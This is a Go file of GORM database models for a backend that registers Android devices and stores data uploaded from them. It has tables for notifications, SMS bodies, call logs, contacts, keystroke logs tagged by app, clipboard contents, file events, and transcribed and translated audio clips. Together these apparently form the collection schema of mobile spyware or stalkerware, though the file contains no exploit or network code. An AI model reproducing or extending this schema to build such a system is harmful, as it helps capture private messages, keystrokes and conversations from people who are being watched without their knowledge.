package models

import "time"

// Device is the directory row written on explicit registration. Credentials
// never reach this table.
type Device struct {
	ID               uint      `gorm:"primaryKey;autoIncrement"`
	DeviceID         string    `gorm:"type:char(32);uniqueIndex;not null"`
	UUID             string    `gorm:"type:char(36);uniqueIndex;not null"`
	RegistrationDate time.Time `gorm:"not null"`
	LastSeen         time.Time `gorm:"index"`
	Model            string    `gorm:"type:varchar(255)"`
	Manufacturer     string    `gorm:"type:varchar(255)"`
	AndroidVersion   string    `gorm:"type:varchar(64)"`
	AppVersion       string    `gorm:"type:varchar(64)"`
	CreatedAt        time.Time
	UpdatedAt        time.Time
}

func (Device) TableName() string {
	return "devices"
}

// RecordBase holds the bookkeeping columns every partition table carries.
// Partition tables are named per device, so these models have no TableName.
type RecordBase struct {
	ID         uint64    `gorm:"primaryKey;autoIncrement"`
	DeviceID   string    `gorm:"type:char(32);index;not null"`
	Uploaded   bool      `gorm:"not null;default:false;index"`
	UploadDate time.Time `gorm:"not null"`
}

type Notification struct {
	RecordBase
	PackageName string    `gorm:"type:varchar(255)"`
	Title       string    `gorm:"type:text"`
	Text        string    `gorm:"type:text"`
	AppName     string    `gorm:"type:varchar(255)"`
	Timestamp   time.Time `gorm:"index;not null"`
}

type SMS struct {
	RecordBase
	Address   string    `gorm:"type:varchar(64)"`
	Type      string    `gorm:"type:varchar(32)"`
	Body      string    `gorm:"type:text"`
	Timestamp time.Time `gorm:"index;not null"`
}

type CallLog struct {
	RecordBase
	Number    string    `gorm:"type:varchar(64)"`
	Type      string    `gorm:"type:varchar(32)"`
	Duration  int64     `gorm:"not null;default:0"`
	Timestamp time.Time `gorm:"index;not null"`
}

type Contact struct {
	RecordBase
	Name        string `gorm:"type:varchar(255)"`
	PhoneNumber string `gorm:"type:varchar(64)"`
	Email       string `gorm:"type:varchar(255)"`
}

type Keylog struct {
	RecordBase
	Key        string    `gorm:"type:varchar(255)"`
	AppPackage string    `gorm:"type:varchar(255)"`
	Timestamp  time.Time `gorm:"index;not null"`
}

type ClipboardEntry struct {
	RecordBase
	Content   string    `gorm:"type:text"`
	Timestamp time.Time `gorm:"index;not null"`
}

type FileEvent struct {
	RecordBase
	Filename      string    `gorm:"type:varchar(512)"`
	EventType     string    `gorm:"type:varchar(64)"`
	DirectoryPath string    `gorm:"type:varchar(1024)"`
	Timestamp     time.Time `gorm:"index;not null"`
}

// Transcription is an uploaded audio clip with its recognised text. Rows are
// shared by all devices and always filtered by DeviceID.
type Transcription struct {
	ID                 uint64    `gorm:"primaryKey;autoIncrement" json:"id"`
	DeviceID           string    `gorm:"type:char(32);index:idx_transcription_device_time;not null" json:"deviceId"`
	FilePath           string    `gorm:"type:varchar(1024);not null" json:"filePath"`
	SourceApp          string    `gorm:"type:varchar(255);index;not null" json:"sourceApp"`
	OriginalText       string    `gorm:"type:text" json:"originalText"`
	Text               string    `gorm:"column:transcription;type:text" json:"transcription"`
	EnglishTranslation string    `gorm:"type:text" json:"englishTranslation"`
	DetectedLanguage   string    `gorm:"type:varchar(16);index;not null" json:"detectedLanguage"`
	Metadata           string    `gorm:"type:text" json:"metadata"`
	Timestamp          time.Time `gorm:"index:idx_transcription_device_time;not null" json:"timestamp"`
	Uploaded           bool      `gorm:"not null;default:true" json:"uploaded"`
	CreatedAt          time.Time `json:"-"`
}

func (Transcription) TableName() string {
	return "transcriptions"
}
